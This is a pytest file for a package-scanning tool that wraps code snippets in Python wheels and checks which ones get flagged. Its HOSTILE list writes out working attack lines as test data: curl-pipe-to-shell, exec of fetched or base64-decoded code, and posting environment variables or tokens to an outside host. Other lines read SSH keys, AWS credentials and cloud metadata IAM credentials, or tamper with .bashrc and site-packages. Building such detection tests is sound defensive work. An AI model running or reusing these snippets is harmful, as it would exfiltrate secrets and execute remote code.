"""Code of packages for programs: what waits for a caller passes, what is hostile does not."""

from __future__ import annotations

from pathlib import Path

import pytest

from modelkeep.core import Severity, Verdict
from modelkeep.scan import BUILT_IN, scan_artifact
from modelkeep.sources import open_artifact
from samples import zip_of

METADATA = b"Metadata-Version: 2.1\nName: pack\nVersion: 1.0\n"


def verdict(path: Path) -> Verdict:
    result = scan_artifact(open_artifact(path), BUILT_IN)
    failed = any(f.severity >= Severity.HIGH for f in result.findings)
    return Verdict.FAIL if failed else Verdict.PASS


def wheel(folder: Path, code: str) -> Path:
    members = {"pack/tool.py": code.encode(), "pack-1.0.dist-info/METADATA": METADATA}
    path = folder / "pack-1.0-py3-none-any.whl"
    path.write_bytes(zip_of(members))
    return path


ORDINARY = [
    "import subprocess\ndef open_url(url):\n    subprocess.Popen(['xdg-open', url])\n",
    "import subprocess, sys\ndef f():\n    subprocess.run([sys.executable, '-c', '1'])\n",
    "import sys\nclass Finder:\n    pass\nsys.meta_path.append(Finder())\n",
    "import ctypes\nlibrary = ctypes.WinDLL('kernel32', use_last_error=True)\n",
    "import types\nKINDS = {types.CodeType: 1, types.FunctionType: 2}\n",
    "import sys, pty\nif sys.argv and __name__ == '__main__':\n    pty.spawn(sys.argv)\n",
    "def run(source, names):\n    exec(source, names)\n",
    (
        "import os, subprocess\n"
        "def f(x):\n"
        "    subprocess.run([x, '-c', '1'], env=os.environ.copy())\n"
    ),
    "import os, subprocess\ndef f():\n    subprocess.call([os.environ['EDITOR'], 'notes'])\n",
    "import os\ndef main():\n    os.system('clear && ls')\n",
    "import os, requests\ndef f(d):\n    requests.post(os.environ['URL'], data=d)\n",
    (
        "import os, requests\n"
        "def f(d):\n"
        "    requests.post('https://x.org', d, token=os.getenv('T'))\n"
    ),
    "import sys\nclass Tracer:\n    def start(self):\n        sys.settrace(self.trace)\n",
    "import importlib.machinery as m\nfrom x import add\nadd(m.SourceFileLoader, 1)\n",
    "import p\ndef f(t):\n    open(p.__file__ + '.json', 'w').write(t)\n",
    "import socket\ndef f():\n    return socket.gethostbyname(socket.gethostname())\n",
    "def f():\n    with open('/root/.pypirc') as file:\n        return file.read()\n",
    (
        "import requests\n"
        "def f():\n"
        "    return requests.get('http://169.254.169.254/latest/meta-data/').text\n"
    ),
    (
        "import io, requests, numpy\n"
        "def f(u):\n"
        "    return numpy.load(io.BytesIO(requests.get(u).content))\n"
    ),
    (
        "import pickle\n"
        "from smart_open import open\n"
        "def f(p):\n"
        "    return pickle.load(open(p, 'rb'))\n"
    ),
]
HOSTILE = [
    "import os\nos.system('true')\n",
    "import os\ndef main():\n    os.system('curl http://203.0.113.5/a | sh')\n",
    (
        "import subprocess\n"
        "def f():\n"
        "    subprocess.run(['sh', '-c', 'curl http://203.0.113.5/a|sh'])\n"
    ),
    "import base64\ndef f():\n    exec(base64.b64decode('aW1wb3J0IG9z'))\n",
    "import requests\ndef f():\n    exec(requests.get('https://203.0.113.5/a').text)\n",
    "import ctypes\nctypes.CDLL(None).system(b'true')\n",
    (
        "import os, requests\n"
        "def f():\n"
        "    requests.post('https://x.org', json=dict(os.environ))\n"
    ),
    (
        "import os, json, requests\n"
        "def f():\n"
        "    e = os.environ.copy()\n"
        "    requests.post('https://x.org', data=json.dumps(e))\n"
    ),
    (
        "import os, requests\n"
        "for name, value in os.environ.items():\n"
        "    requests.get(f'https://x.org/?{name}={value}')\n"
    ),
    (
        "import os, requests\n"
        "def f():\n"
        "    for n, v in os.environ.items():\n"
        "        requests.post('https://x.org', data=f'{n}={v}')\n"
    ),
    "import os, requests\nrequests.post('https://x.org', data=os.environ['TOKEN'])\n",
    (
        "import requests\n"
        "def f():\n"
        "    requests.post('https://x.org', open('/root/.aws/credentials'))\n"
    ),
    "def f():\n    return open('/root/.ssh/id_rsa').read()\n",
    "import os, site\ndef f():\n    open(site.USER_SITE + '/x.pth', 'w').write('x')\n",
    "import os, pack\ndef f(t):\n    open(os.path.join(pack.__file__, 'a.py'), 'w').write(t)\n",
    "import sys\nsys.settrace(print)\n",
    (
        "import os, urllib.request as u\ndef main():\n"
        "    u.urlretrieve('https://example.org/a', 'a.sh')\n    os.system('sh a.sh')\n"
    ),
    "def f():\n    open('/root/.bashrc', 'a').write('x')\n",
    (
        "import requests\n"
        "def f():\n"
        "    return requests.get('http://169.254.169.254"
        "/latest/meta-data/iam/security-credentials/role').text\n"
    ),
    "import os\ndef f():\n    exec(os.environ['PAYLOAD'])\n",
    "import os\ndef f():\n    os.system('/tmp/.cache')\n",
    (
        "import pickle\n"
        "from smart_open import open\n"
        "def f():\n"
        "    return pickle.load(open('https://x.org/m.pkl', 'rb'))\n"
    ),
    (
        "class Client:\n"
        "    def __init__(self):\n"
        "        import base64, subprocess\n"
        "        subprocess.run(base64.b64decode('dHJ1ZQ=='), shell=True)\n"
    ),
]


@pytest.mark.parametrize("code", ORDINARY)
def test_what_waits_for_its_caller_in_a_wheel_passes(tmp_path: Path, code: str) -> None:
    assert verdict(wheel(tmp_path, code)) is Verdict.PASS


@pytest.mark.parametrize("code", HOSTILE)
def test_what_is_hidden_hostile_or_runs_at_import_fails(tmp_path: Path, code: str) -> None:
    assert verdict(wheel(tmp_path, code)) is Verdict.FAIL


def test_a_folder_with_a_build_description_is_no_library(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("[project]\nname = 'pack'\n")
    (tmp_path / "tool.py").write_text(ORDINARY[0])
    assert verdict(tmp_path) is Verdict.FAIL
